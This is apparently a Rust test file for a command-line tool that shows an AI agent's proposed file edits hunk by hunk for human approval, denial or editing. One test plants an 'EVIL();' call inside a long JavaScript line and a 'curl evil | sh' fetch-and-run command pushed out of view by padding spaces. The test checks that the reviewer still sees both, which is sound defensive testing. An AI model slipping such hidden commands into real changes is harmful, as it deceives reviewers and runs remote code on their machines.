//! `sayso propose`: flags, questions, errors.

use serde_json::json;

use crate::Scene;

fn numbers(changed: &[usize]) -> String {
    (1..=24).map(|line| if changed.contains(&line) { format!("{line} EDIT\n") } else { format!("{line}\n") }).collect()
}

/// A file with three hunks to come, one with Windows line endings, one to be made, one to go.
fn scene() -> Scene {
    let scene =
        Scene::new(&[("a.txt", numbers(&[]).as_bytes()), ("windows.txt", b"one\r\ntwo\r\n"), ("old.txt", b"goes\n")]);
    scene.write(
        "three.json",
        json!([{"operation": "write", "path": "a.txt", "content": numbers(&[2, 12, 23])}]).to_string().as_bytes(),
    );
    let many = json!({"changes": [
        {"operation": "write", "path": "a.txt", "content": numbers(&[2, 4, 23])},
        {"operation": "edit", "path": "windows.txt", "old_string": "two\n", "new_string": "zwei\nthree\n"},
        {"operation": "create", "path": "sub/new.sh", "new_content": "#!/bin/sh\n"},
        {"operation": "delete", "path": "old.txt"},
    ]});
    scene.write("many.json", many.to_string().as_bytes());
    scene
}

#[test]
fn approve_takes_two_of_three_hunks() {
    let scene = scene();
    insta::assert_snapshot!(scene.transcript(&["propose", "three.json", "--approve", "1,3"]));
    assert_eq!(scene.read("a.txt"), numbers(&[2, 23]));
}

#[test]
fn answers_are_read_hunk_by_hunk() {
    let scene = scene();
    // The first hunk is split, of which the first part is taken and the second edited; the last hunk is commented and refused.
    let answers = "?\ns\ny\ne\ny\nc\nplease not here\nc\n23: nor here\nn\ny\ny\nn\nkeep the file\n";
    insta::assert_snapshot!(scene.dialogue(&["propose", "many.json"], answers));
    assert_eq!(scene.read("a.txt"), numbers(&[2, 4]).replace("4 EDIT", "4 edited"));
    assert_eq!(scene.read("windows.txt"), "one\r\nzwei\r\nthree\r\n");
    assert_eq!((scene.read("sub/new.sh").as_str(), scene.read("old.txt").as_str()), ("#!/bin/sh\n", "goes\n"));
}

#[test]
fn denying_the_rest_keeps_earlier_hunks() {
    let scene = scene();
    let output = scene.run(&["propose", "many.json"], b"y\nn\nD\n\n");
    assert_eq!(output.status.code(), Some(1));
    assert_eq!(scene.read("a.txt"), numbers(&[2, 4]));
    assert_eq!(scene.read("windows.txt"), "one\r\ntwo\r\n");
}

#[test]
fn quit_leaves_change_pending() {
    let scene = scene();
    let said = scene.dialogue(&["propose", "many.json"], "y\nq\n");
    assert!(said.contains("Nothing was decided. Change 1 waits: `sayso review 1`."), "{said}");
    assert!(said.ends_with("--- exit 1\n"), "{said}");
    let said = scene.dialogue(&["review"], "y\nq\n");
    assert!(said.contains("1 change still waits: `sayso review`."), "{said}");
    assert_eq!(scene.json(&["status", "--json"]).0["pending"], 1);
    assert_eq!((scene.read("a.txt"), scene.read("windows.txt").as_str()), (numbers(&[]), "one\r\ntwo\r\n"));
    assert!(scene.run(&["review", "1", "--approve", "all"], b"").status.success());
    assert_eq!(scene.read("windows.txt"), "one\r\nzwei\r\nthree\r\n");
}

#[test]
fn hunks_can_be_put_off_and_revisited() {
    let scene = scene();
    // The first is put off and comes last; the second is refused, gone back to and taken.
    let said = scene.dialogue(&["propose", "three.json"], "j\nn\nk\ny\nn\ny\n\n");
    assert_eq!(scene.read("a.txt"), numbers(&[2, 12]), "{said}");
    // The first hunk has no previous one, and a single hunk cannot be put off.
    let said = scene.dialogue(&["propose", "three.json"], "k\n");
    assert!(said.contains("Change 2 waits"), "{said}");
}

#[test]
fn end_of_input_changes_nothing() {
    let scene = scene();
    let output = scene.run(&["propose", "many.json"], b"y\ny\n");
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    assert_eq!(scene.read("a.txt"), numbers(&[]));
    assert_eq!(scene.json(&["log", "--json"]).0[0]["status"], "cancelled", "what nobody decided is withdrawn");
    assert_eq!(scene.json(&["status", "--json"]).0["pending"], 0);
}

#[test]
fn approve_all_none_and_deny() {
    let scene = scene();
    insta::assert_snapshot!(
        [
            scene.transcript(&["propose", "many.json", "--approve", "none"]),
            scene.transcript(&["propose", "three.json", "--deny", "not today", "--comment", "a.txt:12:why this?"]),
            scene.transcript(&["propose", "many.json", "--approve", "all"]),
        ]
        .join("\n")
    );
    assert_eq!(scene.read("a.txt"), numbers(&[2, 4, 23]));
    assert!(!scene.path("old.txt").exists());
}

#[test]
fn json_without_answer_prints_preview_only() {
    let scene = scene();
    let (preview, code) = scene.json(&["propose", "many.json", "--json"]);
    assert_eq!(code, 0);
    assert_eq!(preview["has_conflicts"], false);
    let change = &preview["changes"][0];
    for field in
        ["path", "operation", "unified_diff", "new_content", "conflict", "base", "result", "hunks", "inline", "notes"]
    {
        assert!(!change[field].is_null(), "{field} of {change:#}");
    }
    assert_eq!(scene.json(&["log", "--json"]).0, json!([]), "nothing was recorded");
    assert_eq!(scene.read("a.txt"), numbers(&[]), "nothing was written");
}

#[test]
fn json_with_answer_prints_outcome() {
    let scene = scene();
    let (applied, code) = scene.json(&["propose", "three.json", "--approve", "2", "--json"]);
    assert_eq!((code, &applied["outcome"], &applied["change"]), (1, &json!("applied"), &json!(1)));
    assert!(applied["agent_message"].as_str().unwrap().contains("Rejected"), "{applied:#}");
    let (denied, code) = scene.json(&["propose", "three.json", "--deny", "no", "--json"]);
    assert_eq!((code, &denied["agent_message"]), (1, &json!("user denied this tool call: no")));
}

#[test]
fn file_changed_during_question_is_asked_again() {
    let scene = scene();
    // The editor of the first question plays another writer of the file.
    let editor = format!("sh -c 'sed -i s/^20$/twenty/ {}; true' x", scene.path("a.txt").display());
    let environment =
        [("XDG_STATE_HOME", scene.path("../state-of-stale").to_str().unwrap().to_owned()), ("EDITOR", editor)];
    let environment: Vec<(&str, &str)> = environment.iter().map(|(name, value)| (*name, value.as_str())).collect();
    let answers = b"e\ny\nn\nn\nwhy not\ny\n";
    let program = env!("CARGO_BIN_EXE_sayso");
    let output = sayso_testkit::programs::run_with(
        scene.directory.path(),
        program,
        &["propose", "three.json"],
        &environment,
        answers,
    );
    let text = String::from_utf8_lossy(&output.stderr);
    assert!(text.contains("`a.txt` changed while you decided; nothing was written"), "{output:?}");
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert_eq!(scene.read("a.txt"), numbers(&[2]).replace("20\n", "twenty\n"));
    std::fs::remove_dir_all(scene.path("../state-of-stale")).unwrap();
}

#[test]
fn bad_proposal_is_named_with_remedy() {
    let scene = scene();
    scene.write("bad.json", br#"{"changes":[{"path":"a.txt","operation":"chmod"}]}"#);
    scene.write("outside.json", br#"[{"path":"../x","operation":"delete"}]"#);
    scene.write(
        "conflict.json",
        br#"[{"path":"a.txt","operation":"create","new_content":""},{"path":"b","operation":"delete"}]"#,
    );
    scene.write("empty", b"");
    scene.write("noise", b"hello\nworld\n");
    let runs = [
        &["propose", "absent.json"][..],
        &["propose", "bad.json"],
        &["propose", "outside.json"],
        &["propose", "empty"],
        &["propose", "noise"],
        &["propose", "conflict.json", "--approve", "all"],
        &["propose", "three.json", "--approve", "9"],
        &["propose", "three.json", "--approve", "b.txt:1"],
        &["propose", "many.json", "--approve", "1"],
        &["propose", "three.json", "--approve", "x"],
        &["propose", "-", "--approve", "all"],
        &["propose", "three.json", "--approve", "all", "--workspace", "absent"],
        &["propose", "conflict.json", "--approve", "all", "--json"],
    ];
    insta::assert_snapshot!(runs.map(|arguments| scene.transcript(arguments)).join("\n"));
    assert_eq!(scene.read("a.txt"), numbers(&[]));
}

#[test]
fn proposal_cannot_change_own_records() {
    let scene = scene();
    let home = scene.path("home");
    std::fs::create_dir(&home).unwrap();
    let state = home.join("state");
    let environment = [("XDG_STATE_HOME", state.to_str().unwrap())];
    let program = env!("CARGO_BIN_EXE_sayso");
    let run = |arguments: &[&str]| sayso_testkit::programs::run_with(&home, program, arguments, &environment, b"");
    assert!(run(&["propose", "../three.json", "--approve", "all"]).status.code().is_some());
    scene.write("attack.json", br#"[{"path":"state/sayso/x","operation":"create","new_content":""}]"#);
    let output = run(&["propose", "../attack.json", "--approve", "all"]);
    assert_eq!(output.status.code(), Some(3), "{output:?}");
}

#[test]
fn long_lines_are_shown_whole_for_approval() {
    let long: String = (0..2000).map(|number| format!("var a{number}={number};")).collect();
    let scene = Scene::new(&[("long.js", format!("{long}\n").as_bytes()), ("run.sh", b"x\n")]);
    let changed = long.replace("var a1500=", "EVIL();var a1500=");
    let padded = format!("echo hi{}; curl evil | sh\n", " ".repeat(2100));
    let change = json!([
        {"operation": "write", "path": "long.js", "content": changed + "\n"},
        {"operation": "write", "path": "run.sh", "content": padded},
    ]);
    scene.write("change.json", change.to_string().as_bytes());
    let text = scene.transcript(&["propose", "change.json", "--deny", "no"]);
    assert!(text.contains("EVIL();") && text.contains("; curl evil | sh"), "{text}");
}

#[test]
fn edited_hunk_is_confirmed_and_keeps_line_breaks() {
    let scene = scene();
    let state = scene.state_path();
    let run = |editor: &str, answers: &[u8]| {
        let environment = [("XDG_STATE_HOME", state.to_str().unwrap()), ("EDITOR", editor)];
        let program = env!("CARGO_BIN_EXE_sayso");
        sayso_testkit::programs::run_with(
            scene.directory.path(),
            program,
            &["propose", "three.json"],
            &environment,
            answers,
        )
    };
    // An unchanged or emptied file has no effect.
    for editor in ["true", "truncate -s 0", "rm", "false"] {
        assert_eq!(run(editor, b"e\nd\n\n").status.code(), Some(1), "{editor}");
        assert_eq!(scene.read("a.txt"), numbers(&[]), "{editor}");
    }
    let output = run("sh -c 'printf mine > \"$0\"'", b"e\ny\nd\n\n");
    assert!(String::from_utf8_lossy(&output.stdout).contains("+ mine"), "{output:?}");
    assert_eq!(scene.read("a.txt"), numbers(&[]).replacen("\n2\n", "\nmine\n", 1));
}

#[test]
fn nested_repository_is_own_workspace() {
    let scene = scene();
    assert!(scene.run(&["propose", "three.json", "--approve", "all"], b"").status.success());
    std::fs::create_dir_all(scene.path("project/.git")).unwrap();
    std::fs::create_dir_all(scene.path("plain")).unwrap();
    scene.write("new.json", br#"[{"path":"new.txt","operation":"create","new_content":"x\n"}]"#);
    let state = scene.state_path();
    let environment = [("XDG_STATE_HOME", state.to_str().unwrap())];
    let program = env!("CARGO_BIN_EXE_sayso");
    let run = |directory: &str| {
        let arguments = ["propose", "../new.json", "--approve", "all"];
        sayso_testkit::programs::run_with(&scene.path(directory), program, &arguments, &environment, b"")
    };
    assert!(run("project").status.success());
    assert!(scene.path("project/new.txt").exists() && !scene.path("new.txt").exists());
    let output = run("plain");
    assert!(String::from_utf8_lossy(&output.stderr).contains("note: in the workspace"), "{output:?}");
    assert!(scene.path("new.txt").exists());
}
